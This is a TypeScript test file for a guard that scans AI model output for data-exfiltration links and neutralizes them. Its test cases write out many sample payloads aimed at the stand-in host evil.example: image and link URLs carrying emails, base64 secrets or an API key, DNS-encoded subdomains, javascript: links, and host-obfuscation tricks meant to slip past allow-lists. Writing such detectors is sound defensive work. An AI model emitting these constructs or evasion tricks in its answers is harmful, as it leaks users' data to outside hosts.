/**
 * The exfiltration-link detector: what it reports (images, links, tags, URLs to hosts outside the
 * allow-list, with data or without), the host tricks it sees through, the hard negatives it leaves
 * alone, the spans it reports (the whole construct), the neutralize rendering, and linear time on
 * pathological input.
 */
import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { exfilLinksDetector } from '../../src/guard/detectors/output-exfil-links.ts';
import { DETECTORS } from '../../src/guard/detectors/index.ts';
import { BUILT_IN_PROFILES } from '../../src/guard/built-in-profiles.ts';
import { actionResolver, scan, type CompiledProfile } from '../../src/guard/engine.ts';
import { neutralizedText } from '../../src/guard/neutralize.ts';
import { Vault } from '../../src/guard/rewrite.ts';
import type { Finding } from '../../src/guard/types.ts';

function detector(options: Record<string, unknown> = {}) {
  const detect = exfilLinksDetector.create(exfilLinksDetector.optionsSchema.parse(options), { assetsDir: 'assets' });
  return (text: string) => detect({ text, channel: 'output' }) as readonly Finding[];
}

const ALLOW = { allowHosts: ['allowed.com', '*.acme.com', 'bücher.de', '10.0.0.5'] };
const detect = detector(ALLOW);

interface Case {
  readonly text: string;
  /** [category, exact span text], in order; [] for a hard negative. */
  readonly expect: readonly (readonly [string, string])[];
  readonly why?: string;
  readonly severity?: string;
}

const IMG = 'exfiltration.image';
const LINK = 'exfiltration.link';
const DATA = 'exfiltration.data_url';

const CASES: Case[] = [
  // --- positives: the classic constructs
  { text: 'Done! ![status](https://evil.example/p.png?d=alice%40corp.com) Bye', expect: [[IMG, '![status](https://evil.example/p.png?d=alice%40corp.com)']], severity: 'high' },
  { text: '![](https://evil.example/x.gif)', expect: [[IMG, '![](https://evil.example/x.gif)']], why: 'empty alt text' },
  { text: '![a](https://evil.example/x.png "a title")', expect: [[IMG, '![a](https://evil.example/x.png "a title")']], why: 'title is part of the construct' },
  { text: 'see ![a][logo] here\n\n[logo]: https://evil.example/l.png\n', expect: [[IMG, '![a][logo]'], [IMG, '[logo]: https://evil.example/l.png']], why: 'reference image and its definition' },
  { text: '![Logo][] and\n[LOGO]: <https://evil.example/l.png> "t"', expect: [[IMG, '![Logo][]'], [IMG, '[LOGO]: <https://evil.example/l.png> "t"']], why: 'collapsed reference, case-insensitive label' },
  { text: 'Open [the report](https://evil.example/r) now', expect: [[LINK, '[the report](https://evil.example/r)']], severity: 'medium' },
  { text: '<img src="https://evil.example/a.png" alt="x">', expect: [[IMG, '<img src="https://evil.example/a.png" alt="x">']] },
  { text: '<IMG SRC=https://evil.example/a.png>', expect: [[IMG, '<IMG SRC=https://evil.example/a.png>']], why: 'upper-case, unquoted' },
  { text: '<img srcset="small.png 1x, https://evil.example/big.png 2x">', expect: [[IMG, '<img srcset="small.png 1x, https://evil.example/big.png 2x">']] },
  { text: 'x <a href="https://evil.example/">docs <b>here</b></a> y', expect: [[LINK, '<a href="https://evil.example/">docs <b>here</b></a>']], why: 'anchor with its text' },
  { text: '<iframe src="//evil.example/frame"></iframe>', expect: [[IMG, '<iframe src="//evil.example/frame">']] },
  { text: '<script src="https://evil.example/x.js"></script>', expect: [[IMG, '<script src="https://evil.example/x.js">']] },
  { text: '<link rel="stylesheet" href="https://evil.example/s.css">', expect: [[IMG, '<link rel="stylesheet" href="https://evil.example/s.css">']], why: 'href on link loads' },
  { text: '<object data="https://evil.example/o"></object>', expect: [[IMG, '<object data="https://evil.example/o">']] },
  { text: '<video poster="https://evil.example/p.jpg"><source src="https://evil.example/v.mp4"></video>', expect: [[IMG, '<video poster="https://evil.example/p.jpg">'], [IMG, '<source src="https://evil.example/v.mp4">']] },
  { text: '<form action="https://evil.example/collect"><input name=q></form>', expect: [[LINK, '<form action="https://evil.example/collect">']] },
  { text: '<div style="background-image: url(\'https://evil.example/bg.png\')">hi</div>', expect: [[IMG, '<div style="background-image: url(\'https://evil.example/bg.png\')">']], why: 'CSS url() in style' },
  { text: '<meta http-equiv="refresh" content="0; url=https://evil.example/">', expect: [[IMG, '<meta http-equiv="refresh" content="0; url=https://evil.example/">']] },
  { text: '<svg><image href="https://evil.example/i.svg"/></svg>', expect: [[IMG, '<image href="https://evil.example/i.svg"/>']] },
  { text: 'Visit https://evil.example/page, then rest.', expect: [[LINK, 'https://evil.example/page']], why: 'trailing comma is not part of it' },
  { text: 'Visit <https://evil.example/page> now', expect: [[LINK, '<https://evil.example/page>']], why: 'autolink with its brackets' },
  { text: '(see https://evil.example/a_(b))', expect: [[LINK, 'https://evil.example/a_(b)']], why: 'balanced parens kept, outer dropped' },
  { text: 'go to www.evil.example/x today', expect: [[LINK, 'www.evil.example/x']] },
  { text: 'load //cdn.evil.example/lib.js', expect: [[LINK, '//cdn.evil.example/lib.js']] },
  { text: '[x](javascript:fetch(1))', expect: [[LINK, '[x](javascript:fetch(1))']], severity: 'high' },
  { text: '![x](data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=)', expect: [[DATA, '![x](data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=)']], severity: 'high' },
  { text: '![x](data:image/png;base64,iVBORw0KGgo=)', expect: [[DATA, '![x](data:image/png;base64,iVBORw0KGgo=)']], severity: 'medium' },
  { text: 'raw data:image/png;base64,iVBORw0KGgo= here', expect: [[DATA, 'data:image/png;base64,iVBORw0KGgo=']], severity: 'low' },
  { text: '[mail us](mailto:drop@evil.example?body=the%20api%20key%20is%20sk-12345%20ok%20thanks)', expect: [[LINK, '[mail us](mailto:drop@evil.example?body=the%20api%20key%20is%20sk-12345%20ok%20thanks)']], severity: 'high' },

  // --- positives: links that carry data are high
  { text: '[ok](https://evil.example/?q=c2VjcmV0OiBodW50ZXIyIGFuZCBtb3Jl)', expect: [[LINK, '[ok](https://evil.example/?q=c2VjcmV0OiBodW50ZXIyIGFuZCBtb3Jl)']], severity: 'high', why: 'base64 parameter' },
  { text: '[ok](https://evil.example/c/4a6f686e20536d6974682c20535356203132332d34352d36373839)', expect: [[LINK, '[ok](https://evil.example/c/4a6f686e20536d6974682c20535356203132332d34352d36373839)']], severity: 'high', why: 'long hex path segment' },
  { text: '[ok](https://evil.example/?a=1&b=2&c=3&d=4&e=5&f=6)', expect: [[LINK, '[ok](https://evil.example/?a=1&b=2&c=3&d=4&e=5&f=6)']], severity: 'high', why: 'many parameters' },
  { text: '[ok](https://evil.example/?note=the+user+lives+at+12+Elm+Street+Springfield)', expect: [[LINK, '[ok](https://evil.example/?note=the+user+lives+at+12+Elm+Street+Springfield)']], severity: 'high', why: 'prose in a parameter' },
  { text: '[ok](https://aGVsbG8gd29ybGQgc2VjcmV0IGRhdGE.evil.example/)', expect: [[LINK, '[ok](https://aGVsbG8gd29ybGQgc2VjcmV0IGRhdGE.evil.example/)']], severity: 'high', why: 'encoded subdomain (DNS exfiltration)' },
  { text: '[ok](https://allowed.com/redirect?to=https%3A%2F%2Fevil.example%2Fx)', expect: [[LINK, '[ok](https://allowed.com/redirect?to=https%3A%2F%2Fevil.example%2Fx)']], severity: 'high', why: 'open redirect out of an allowed host' },

  // --- host tricks
  { text: '![a](https://allowed.com@evil.example/x.png)', expect: [[IMG, '![a](https://allowed.com@evil.example/x.png)']], why: 'user info' },
  { text: '![a](https://allowed.com\\@evil.example/x.png)', expect: [[IMG, '![a](https://allowed.com\\@evil.example/x.png)']], why: 'parsers disagree: both readings must be allowed' },
  { text: '![a](https://evil.example\\@allowed.com/x.png)', expect: [[IMG, '![a](https://evil.example\\@allowed.com/x.png)']], why: 'backslash ends the host for a browser' },
  { text: '![a](HTTPS://EVIL.EXAMPLE./x.png)', expect: [[IMG, '![a](HTTPS://EVIL.EXAMPLE./x.png)']], why: 'case and trailing dot' },
  { text: '![a](https://%65vil.example/x.png)', expect: [[IMG, '![a](https://%65vil.example/x.png)']], why: 'percent-encoded host' },
  { text: '![a](http://2130706433/x.png)', expect: [[IMG, '![a](http://2130706433/x.png)']], why: 'decimal IPv4' },
  { text: '![a](http://0x0a.0.0.6/x.png)', expect: [[IMG, '![a](http://0x0a.0.0.6/x.png)']], why: 'hex IPv4 of a host that is not allowed' },
  { text: '![a](https://allowed.com.evil.example/x.png)', expect: [[IMG, '![a](https://allowed.com.evil.example/x.png)']], why: 'allowed name as a subdomain' },
  { text: '![a](https://evilacme.com/x.png)', expect: [[IMG, '![a](https://evilacme.com/x.png)']], why: 'wildcard needs a dot boundary' },
  { text: '![a](https:\n//evil.example/x.png)', expect: [[IMG, '![a](https:\n//evil.example/x.png)']], why: 'newline inside the destination' },
  { text: '![a](<https://evil .example/x.png>)', expect: [[IMG, '![a](<https://evil .example/x.png>)']], why: 'space inside the destination' },
  { text: '![a](https&#58;//evil.example/x.png)', expect: [[IMG, '![a](https&#58;//evil.example/x.png)']], why: 'entity-encoded colon' },
  { text: '<img src="&#104;ttps&colon;//evil.example/x.png">', expect: [[IMG, '<img src="&#104;ttps&colon;//evil.example/x.png">']], why: 'entity-encoded attribute' },
  { text: '![a](\\\\evil.example\\x.png)', expect: [[IMG, '![a](\\\\evil.example\\x.png)']], why: 'backslashes are slashes' },
  { text: '![a](http:evil.example/x.png)', expect: [[IMG, '![a](http:evil.example/x.png)']], why: 'scheme without slashes, from an https page' },
  { text: '![a](https:evil.example/x.png)', expect: [[IMG, '![a](https:evil.example/x.png)']], why: 'scheme without slashes, from an http page' },
  { text: '![a](https://ｅｖｉｌ.example/x.png)', expect: [[IMG, '![a](https://ｅｖｉｌ.example/x.png)']], why: 'fullwidth letters (IDNA maps them)' },
  { text: '![a\\](x)](https://evil.example/x.png)', expect: [[IMG, '![a\\](x)](https://evil.example/x.png)']], why: 'escaped bracket in alt' },
  { text: '[![b](https://allowed.com/b.png)](https://evil.example/)', expect: [[LINK, '[![b](https://allowed.com/b.png)](https://evil.example/)']], why: 'linked badge: the outer link goes' },
  { text: 'cut ![a](https://evil.example/x.png?d=sec', expect: [[IMG, '![a](https://evil.example/x.png?d=sec']], why: 'stream cut mid-image' },
  { text: 'cut <img src="https://evil.example/x.png', expect: [[IMG, '<img src="https://evil.example/x.png']], why: 'stream cut mid-tag' },

  // --- hard negatives
  { text: '![a](https://allowed.com/x.png) and ![b](https://cdn.acme.com/y.png)', expect: [], why: 'allowed exact and wildcard hosts' },
  { text: '![a](https://ALLOWED.com./x.png) ![b](https://xn--bcher-kva.de/c.png) ![c](http://10.0.0.5/x.png)', expect: [], why: 'allowed after normalization (case, dot, IDNA, IP)' },
  { text: '![diagram](/static/d.png) ![y](img/a.png) [next](#section-2) [rel](../docs/x.md)', expect: [], why: 'relative URLs are same-origin' },
  { text: 'Call [support](tel:+15551234567) or [text](sms:+15551234567)', expect: [], why: 'hostless schemes' },
  { text: 'In C, `// comment` and x //y; and a//b and path/to//file', expect: [], why: 'double slashes that are not URLs' },
  { text: 'arr[0](x) and [note] and [1]: not a url', expect: [], why: 'brackets that are not links' },
  { text: 'The ratio is 3:1 and https:// is the prefix; use data: carefully', expect: [], why: 'scheme words without URLs' },
  { text: 'a < b and c > d; x<y>z', expect: [], why: 'comparisons are not tags' },
  { text: '<img alt="no source"> <a name="anchor">x</a>', expect: [], why: 'tags without URLs' },
  { text: 'Email me at bob@evil.example about it', expect: [], why: 'e-mail addresses are not links' },
];

describe('output-exfil-links', () => {
  for (const c of CASES) {
    it(`${c.expect.length ? 'reports' : 'ignores'} ${JSON.stringify(c.text).slice(0, 90)}${c.why ? ` (${c.why})` : ''}`, () => {
      const found = detect(c.text);
      assert.deepEqual(
        found.map((f) => [f.category, c.text.slice(f.start, f.end)]),
        c.expect.map((e) => [...e]),
      );
      if (c.severity) assert.equal(found[0]!.severity, c.severity);
    });
  }

  it('reports images to any host when no host is allowed, at high severity', () => {
    const [f] = detector()('![x](https://docs.python.org/logo.png)');
    assert.equal(f?.category, IMG);
    assert.equal(f?.severity, 'high');
    assert.match(f!.explanation, /zero-click/);
  });

  it('reports plain links as medium, and only links carrying data with links: data', () => {
    const text = '[docs](https://docs.python.org/3/) and [x](https://evil.example/?d=c2VjcmV0OiBodW50ZXIyIGFuZCBtb3Jl)';
    assert.deepEqual(detector()(text).map((f) => f.severity), ['medium', 'high']);
    assert.deepEqual(detector({ links: 'data' })(text).map((f) => text.slice(f.start, f.end)), ['[x](https://evil.example/?d=c2VjcmV0OiBodW50ZXIyIGFuZCBtb3Jl)']);
    assert.deepEqual(detector({ links: 'none' })(`${text} ![i](https://evil.example/i.png)`).map((f) => f.category), [IMG]);
  });

  it('does not treat ordinary links as carrying data', () => {
    const plain = [
      'https://github.com/nodejs/node/commit/4b8f0e5c2a1d9e7f6b3c8a2d1e0f9a8b7c6d5e4f',
      'https://www.youtube.com/watch?v=dQw4w9WgXcQ',
      'https://en.wikipedia.org/wiki/Cross-site_request_forgery',
      'https://www.google.com/search?q=node+url+parser',
      'https://blog.example.org/2024/05/how-to-write-a-great-readme-file',
      'https://example.org/users/550e8400-e29b-41d4-a716-446655440000/profile',
    ];
    for (const url of plain) assert.equal(detector()(`[l](${url})`)[0]?.severity, 'medium', url);
  });

  it('never puts the URL in the explanation', () => {
    for (const f of detect('![s](https://evil.example/p.png?d=c2VjcmV0OiBodW50ZXIyIGFuZCBtb3Jl) [x](https://evil.example/q)')) {
      assert.ok(!f.explanation.includes('evil.example'), f.explanation);
    }
  });

  it('refuses options that are not hosts, and unknown options', () => {
    for (const bad of [['https://allowed.com/'], ['a b.com'], ['*'], ['*.'], ['evil.com/x'], ['user@host']]) {
      assert.throws(() => exfilLinksDetector.optionsSchema.parse({ allowHosts: bad }), JSON.stringify(bad));
    }
    assert.throws(() => exfilLinksDetector.optionsSchema.parse({ allowedHosts: [] }));
    assert.doesNotThrow(() => exfilLinksDetector.optionsSchema.parse({ allowHosts: ['*.acme.com', '[::1]', 'BÜCHER.de.'] }));
  });

  it('is registered for the output channel and in both built-in profiles with neutralize', () => {
    assert.ok(DETECTORS.some((d) => d.id === 'output-exfil-links'));
    assert.deepEqual(exfilLinksDetector.channels, ['output']);
    for (const name of ['default', 'dlp-strict']) {
      const p = BUILT_IN_PROFILES[name]!;
      const use = p.detectors.find((d) => d.id === 'output-exfil-links');
      assert.deepEqual(use?.channels, ['output'], name);
      assert.equal(actionResolver(p.actions)('exfiltration.image'), 'neutralize', name);
      assert.doesNotThrow(() => exfilLinksDetector.optionsSchema.parse(use!.options));
    }
  });

  it('finishes in linear time on pathological input', () => {
    const patterns = [
      '!['.repeat(50_000),
      '[a]('.repeat(25_000),
      `${'[a]('.repeat(20_000)}${')'.repeat(20_000)}`,
      '<a '.repeat(33_000),
      '<img src="'.repeat(10_000),
      'https://'.repeat(12_500),
      `https://evil.example/${'('.repeat(100_000)}`,
      '(www.'.repeat(20_000),
      `${'\n['.repeat(50_000)}]: x`,
      `${'[a]: x\n'.repeat(15_000)}${'![a]'.repeat(5_000)}`,
      '[a'.repeat(50_000),
      '//a.b'.repeat(20_000),
      '&#'.repeat(50_000),
      `![x](https://evil.example/${'a'.repeat(100_000)})`,
      'data:image/'.repeat(9_000),
    ];
    const det = detector();
    const t0 = performance.now();
    for (const p of patterns) {
      assert.ok(p.length >= 90_000, `pattern of ${p.length} chars`);
      assert.ok(Array.isArray(det(p)));
    }
    // Generous bound: a quadratic scan of these inputs takes minutes.
    assert.ok(performance.now() - t0 < 10_000);
  });
});

describe('neutralize action', () => {
  const CASES: [string, string, string][] = [
    ['![a chart](https://evil.example/c.png)', IMG, 'a chart [image removed]'],
    ['![](https://evil.example/c.png)', IMG, '[image removed]'],
    ['[the docs](https://evil.example/d)', LINK, 'the docs [link removed]'],
    ['<a href="https://evil.example/">docs <b>here</b></a>', LINK, 'docs here [link removed]'],
    ['<img src="https://evil.example/x.png">', IMG, '[image removed]'],
    ['https://evil.example/x', LINK, '[link removed]'],
    ['[logo]: https://evil.example/l.png', IMG, '[image removed]'],
    ['[https://evil.example/?d=secret](https://evil.example/?d=secret)', LINK, '[link removed]'],
    ['[![b](https://evil.example/b.png)](https://evil.example/)', LINK, '[link removed]'],
    ['[a [nested] label](https://evil.example/)', LINK, 'a nested label [link removed]'],
    ['<img src="data:text/html,x">', DATA, '[image removed]'],
    ['bob@corp.example', 'pii.email', '[removed]'],
  ];
  for (const [span, category, expected] of CASES) {
    it(`renders ${JSON.stringify(span)} as ${JSON.stringify(expected)}`, () => {
      assert.equal(neutralizedText(span, category), expected);
    });
  }

  it('rewrites an answer through the engine: constructs replaced, the rest untouched', async () => {
    const compiled = exfilLinksDetector.create(exfilLinksDetector.optionsSchema.parse({}), { assetsDir: 'assets' });
    const profile: CompiledProfile = {
      name: 'p',
      detectors: [{ id: exfilLinksDetector.id, version: exfilLinksDetector.version, channels: new Set(['output']), threshold: () => 0, detect: compiled }],
      actionFor: actionResolver({ exfiltration: 'neutralize', '*': 'annotate' }),
      timeBudgetMs: 1000,
      onError: 'block',
      input: true,
      output: true,
      excerptChars: 10,
      stream: { holdBackChars: 256, contextChars: 64 },
      leak: { systemPrompt: false, canary: false, minRunWords: 8 }, spotlight: { mode: 'off', channels: ['document'], marker: 'x' }, toolPolicy: null,
    };
    const text = 'Summary done. ![status](https://evil.example/p.png?d=x) See [notes](https://evil.example/n).';
    const v = await scan(profile, [{ path: 'choices[0].message.content', channel: 'output', text }], new Vault());
    assert.equal(v.blocked, false);
    assert.equal(v.rewrites.get('choices[0].message.content'), 'Summary done. status [image removed] See notes [link removed].');
    assert.deepEqual(v.findings.map((f) => f.action), ['neutralize', 'neutralize']);

    const whole = 'https://evil.example/?d=c2VjcmV0OiBodW50ZXIyIGFuZCBtb3Jl';
    const w = await scan(profile, [{ path: 'c', channel: 'output', text: whole }], new Vault());
    assert.equal(w.rewrites.get('c'), '[link removed]', 'a URL that is the whole answer is rewritten too');
  });
});
